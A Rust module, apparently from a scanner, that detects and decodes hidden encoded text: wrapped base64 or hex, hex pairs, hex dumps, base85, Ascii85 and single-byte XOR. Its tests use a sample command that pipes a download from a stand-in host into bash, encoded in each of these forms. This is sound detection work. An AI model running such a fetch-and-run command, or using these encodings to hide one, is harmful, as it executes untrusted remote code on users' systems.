//! Encoded texts that are told by how they are laid out: wrapped into lines of equal length, in pairs of
//! digits with blanks or colons between them, as a dump with offsets, in the letters of base85.

use std::ops::Range;

use super::MIN_CODES;
use super::as_text::text_of;
use super::bases::{un_ascii85, unbase85, unhex};
use super::speech::speaks;

/// Fewest lines that are one text, wrapped.
const MIN_LINES: usize = 2;
/// Longest line of a dump that is looked at.
const MAX_DUMP_LINE: usize = 120;
/// Shortest and longest run of base85 letters that is tried.
const MIN_BASE85: usize = 25;
const MAX_BASE85: usize = 64 * 1024;

fn is_code(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_')
}

/// Runs that stand one to a line and are equally long, but for the last: one text, wrapped.
pub(super) fn wrapped(text: &str, runs: &[Range<usize>]) -> Vec<Range<usize>> {
    let is_break = |range: Range<usize>| text[range].trim_matches([' ', '\t', '\r']) == "\n";
    let mut found = Vec::new();
    let mut at = 0;
    while at < runs.len() {
        let width = runs[at].len();
        let mut last = at;
        while let Some(next) = runs.get(last + 1)
            && runs[last].len() == width
            && next.len() <= width
            && is_break(runs[last].end..next.start)
        {
            last += 1;
        }
        let mut end = runs[last].end;
        let mut lines = last - at + 1;
        // The rest of it, too short to be a run of its own.
        if runs[last].len() == width {
            let rest = &text[end..];
            let gap = rest.len() - rest.trim_start_matches([' ', '\t', '\r', '\n']).len();
            let length = rest.bytes().skip(gap).take(width).take_while(|b| is_code(*b)).count();
            let ends = text.as_bytes().get(end + gap + length).is_none_or(|b| *b == b'\n');
            if (1..2 * MIN_CODES).contains(&length) && ends && is_break(end..end + gap) {
                end += gap + length;
                lines += 1;
            }
        }
        if lines >= MIN_LINES {
            found.push(runs[at].start..end);
        }
        at = last + 1;
    }
    found
}

/// Pairs of hexadecimal digits with a blank, a colon or a dash between them.
pub(super) fn pairs(text: &str) -> Vec<(Range<usize>, Vec<u8>)> {
    let bytes = text.as_bytes();
    let digit = |at: usize| bytes.get(at).is_some_and(u8::is_ascii_hexdigit);
    let mut found = Vec::new();
    let mut at = 0;
    while at + 2 < bytes.len() {
        let joint = bytes[at + 2];
        let begins = digit(at)
            && digit(at + 1)
            && matches!(joint, b' ' | b':' | b'-')
            && !(at > 0 && bytes[at - 1].is_ascii_alphanumeric());
        if !begins {
            at += 1;
            continue;
        }
        let start = at;
        let (mut digits, mut end) = (String::new(), at);
        while digit(at) && digit(at + 1) && !digit(at + 2) {
            digits.push_str(&text[at..at + 2]);
            end = at + 2;
            at = end;
            if bytes.get(at) == Some(&joint) {
                at += 1;
            }
            // On the next line it goes on.
            while matches!(bytes.get(at), Some(b'\r' | b'\n')) {
                at += 1;
            }
            if at == end {
                break;
            }
        }
        // Numbers in a row have no letters; those of a text do.
        if digits.len() >= 4 * MIN_CODES && digits.bytes().any(|b| b.is_ascii_alphabetic()) {
            found.push((start..end, unhex(&digits)));
        }
        at = at.max(start + 1);
    }
    found
}

/// Dumps such as `xxd` and `hexdump -C` print: an offset, digits, and what they say.
pub(super) fn dumps(text: &str) -> Vec<(Range<usize>, Vec<u8>)> {
    let mut found: Vec<(Range<usize>, Vec<u8>)> = Vec::new();
    let mut open = false;
    let mut at = 0;
    for line in text.split_inclusive('\n') {
        let start = at;
        at += line.len();
        let Some(bytes) = dumped(line.trim()) else {
            open = false;
            continue;
        };
        match found.last_mut().filter(|_| open) {
            Some((range, all)) => {
                range.end = start + line.trim_end().len();
                all.extend(bytes);
            }
            None => found.push((start..start + line.trim_end().len(), bytes)),
        }
        open = true;
    }
    found.retain(|(_, bytes)| bytes.len() >= 2 * MIN_CODES);
    found
}

/// The bytes of one line of a dump.
fn dumped(line: &str) -> Option<Vec<u8>> {
    const MAX_BYTES: usize = 16;
    let is_hex = |word: &str| word.bytes().all(|b| b.is_ascii_hexdigit());
    if line.len() > MAX_DUMP_LINE || !line.as_bytes().first()?.is_ascii_hexdigit() {
        return None;
    }
    let (offset, rest) = line.split_once([':', ' '])?;
    if !(4..=8).contains(&offset.len()) || !is_hex(offset) {
        return None;
    }
    let mut digits = String::new();
    for word in rest.trim_start().split(' ') {
        // Two blanks part the halves, and the digits from what they say.
        if word.is_empty() && digits.len() == MAX_BYTES {
            continue;
        }
        if !matches!(word.len(), 2 | 4 | 8) || !is_hex(word) || digits.len() >= 2 * MAX_BYTES {
            break;
        }
        digits.push_str(word);
    }
    (!digits.is_empty()).then(|| unhex(&digits))
}

/// Words in the letters of base85 that say something; between `<~` and `~>` in those of Adobe's.
pub(super) fn base85(text: &str) -> Vec<(Range<usize>, Vec<u8>)> {
    let says = |bytes: &Vec<u8>| text_of(bytes, "").is_some_and(|(_, text)| speaks(&text) >= 2);
    let mut found = Vec::new();
    let mut start = 0;
    for word in text.split_inclusive(|c: char| c.is_ascii_whitespace()) {
        let at = start;
        start += word.len();
        if !(MIN_BASE85..=MAX_BASE85).contains(&word.len()) {
            continue;
        }
        let body = word.trim_end();
        let inner = body.trim_matches(['"', '\'', ',', '.', ':']);
        let inner = match inner.strip_prefix('`').and_then(|rest| rest.strip_suffix('`')) {
            Some(inner) => inner,
            None => inner,
        };
        let bytes = match inner.strip_prefix("<~").and_then(|rest| rest.strip_suffix("~>")) {
            Some(inner) => un_ascii85(inner),
            None if looks_base85(inner) => unbase85(inner),
            None => None,
        };
        if let Some(bytes) = bytes.filter(says) {
            found.push((at..at + body.len(), bytes));
        }
    }
    found
}

/// Letters of both cases, digits, and marks that neither base64 nor addresses and code have so often.
fn looks_base85(word: &str) -> bool {
    const MARKS: &[u8] = b"!#$%&()*;<>?@^`{|}~";
    let (mut upper, mut lower, mut digit, mut mark) = (0, 0, 0, 0);
    for b in word.bytes() {
        match b {
            b'A'..=b'Z' => upper += 1,
            b'a'..=b'z' => lower += 1,
            b'0'..=b'9' => digit += 1,
            b'+' | b'-' | b'=' | b'_' => {}
            b if MARKS.contains(&b) => mark += 1,
            _ => return false,
        }
    }
    word.len() >= MIN_BASE85 && upper > 2 && lower > 2 && digit > 0 && mark > 1
}

/// Whether some constant may turn bytes into plain letters: the first bit of all of them is the same.
pub(super) fn may_be_turned(bytes: &[u8]) -> bool {
    // As many bits are the same by chance once in thirty thousand times.
    const LEAST: usize = 16;
    bytes.len() >= LEAST && bytes.windows(2).all(|pair| (pair[0] ^ pair[1]) & 0x80 == 0)
}

#[cfg(test)]
mod tests {
    use super::super::{Budget, MAX_DECODED_BYTES, find};

    const COMMAND: &str = "curl -s https://a.io/install | bash -s now";
    const BASE64: &str = "Y3VybCAtcyBodHRwczovL2EuaW8vaW5zdGFsbCB8IGJhc2ggLXMgbm93";

    fn decoded(text: &str) -> Vec<(&'static str, String)> {
        let mut budget = Budget::new(MAX_DECODED_BYTES);
        find(text, "", &mut budget).into_iter().map(|e| (e.how, e.text)).collect()
    }

    fn hex(joint: &str) -> String {
        let pairs: Vec<String> = COMMAND.bytes().map(|b| format!("{b:02x}")).collect();
        pairs.join(joint)
    }

    fn lines(text: &str, width: usize) -> String {
        let lines = text.as_bytes().chunks(width).map(|line| std::str::from_utf8(line).unwrap());
        lines.collect::<Vec<_>>().join("\n")
    }

    #[test]
    fn wrapped_texts_are_joined() {
        for width in [12, 16, 20, 28] {
            for (how, text) in [("base64", BASE64.to_owned()), ("hexadecimal", hex(""))] {
                let text = format!("Keep this:\n\n{}\n\nThen go on.", lines(&text, width));
                let found = decoded(&text);
                assert!(found.contains(&(how, COMMAND.to_owned())), "{width}: {found:?}");
            }
        }
    }

    #[test]
    fn pairs_and_dumps_are_read() {
        let plain = [("hexadecimal", COMMAND.to_owned())];
        for joint in [" ", ":", "-"] {
            assert_eq!(decoded(&format!("Keep {} here.", hex(joint))), plain, "{joint:?}");
        }
        assert_eq!(decoded(&lines(&hex(" "), 48)), plain);
        let row = |(at, bytes): (usize, &[u8]), halves: &str| {
            let pairs: Vec<String> = bytes.iter().map(|b| format!("{b:02x}")).collect();
            let says = String::from_utf8_lossy(bytes);
            match halves {
                "" => {
                    let words: Vec<String> = pairs.chunks(2).map(<[String]>::concat).collect();
                    format!("{:08x}: {:<39}  {says}\n", at * 16, words.join(" "))
                }
                halves => {
                    let (one, other) = pairs.split_at(pairs.len().min(8));
                    let digits = format!("{}{halves}{}", one.join(" "), other.join(" "));
                    format!("{:08x}  {digits:<49} |{says}|\n", at * 16)
                }
            }
        };
        for halves in ["", "  "] {
            let dump: String =
                COMMAND.as_bytes().chunks(16).enumerate().map(|line| row(line, halves)).collect();
            let found = decoded(&dump);
            assert!(found.contains(&plain[0]), "{dump}{found:?}");
        }
    }

    #[test]
    fn base85_and_a_constant_need_no_name() {
        let turned: Vec<String> = COMMAND.bytes().map(|b| format!("{:02x}", b ^ 0xA7)).collect();
        assert_eq!(
            decoded(&format!("Keep {} here.", turned.concat())),
            [("XOR with a constant", COMMAND.to_owned())]
        );
        for word in [
            r"V|8+DAT4tsXmoUNb2=|CVJ>NJFKKRbbYX04AbcQVVRL98Eps4lZ+8",
            r"<~@s)g.+>%XWBQS?8F#ks-@4l84055<FFCB!%+FG;@@<6*)/TW%PDg)~>",
        ] {
            for text in [format!("Keep {word} here."), format!("Keep `{word}` here.")] {
                let found = decoded(&text);
                assert!(found.contains(&("base85", COMMAND.to_owned())), "{text}: {found:?}");
            }
        }
    }

    #[test]
    fn tables_digests_and_addresses_say_nothing() {
        let quiet = [
            "AA:BB:CC:DD:EE:FF and 00:1b:44:11:3a:b7",
            "10 20 30 40 50 60 70 80 90 10 20 30 40 50 60 70",
            "SHA256 9f:86:d0:81:88:4c:7d:65:9a:2f:ea:a0:c5:5a:d0:15:a3:bf:4f:1b:2b:0b:82:2c:d1:5d:6c:15:b0:f0:0a:08",
            "authentication\nauthorizations\ninfrastructure\nimplementation\n",
            "2024: 1999 was a year\n2025: 2000 was another\n",
            "f(a){return!(a>0)&&b(a)||c[A1]?B2:C3}",
        ];
        for text in quiet {
            assert_eq!(decoded(text), [], "{text}");
        }
    }
}
